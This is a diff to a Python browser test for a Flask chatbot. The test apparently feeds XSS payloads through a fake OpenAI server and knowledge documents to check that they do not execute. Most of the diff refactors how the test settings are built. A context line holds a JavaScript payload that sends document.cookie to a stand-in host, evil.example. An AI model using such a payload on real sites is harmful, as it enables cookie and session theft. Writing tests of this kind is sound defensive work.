@@ -11,10 +11,10 @@ from flask import Flask
 from playwright.sync_api import Browser, Page, expect
 
 from chatbot.app.factory import close_app, create_app
-from chatbot.config.settings import Settings
 from tests.app.web.knowledge import added
 from tests.app.web.live import served
 from tests.browser.conftest import watched
+from tests.conftest import small_settings
 from tests.fakes.openai_server import CHAT, FakeOpenAI, Reply
 
 RUN = "window.pwned=1;fetch('http://evil.example/'+document.cookie)"
@@ -48,8 +48,8 @@ NUMBERED = list(enumerate(PAYLOADS))
 def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
     with FakeOpenAI() as server:
         server.always(CHAT, Reply(["\n\n".join(f"{payload} [1]" for payload in PAYLOADS)]))
-        own = {**server.as_settings, "embedding_provider": "hashing", "sample_data": "off", "summaries": "off"}
-        made = create_app(Settings(data_dir=tmp_path_factory.mktemp("data"), **own))
+        changed = {**server.as_settings, "embedding_provider": "hashing"}
+        made = create_app(small_settings(tmp_path_factory.mktemp("data"), **changed))
         client = made.test_client()
         for number, payload in NUMBERED:
             text = f"# {payload}\n\n## Growth {payload}\n\nKenya grows by {number}%. {payload}\n"
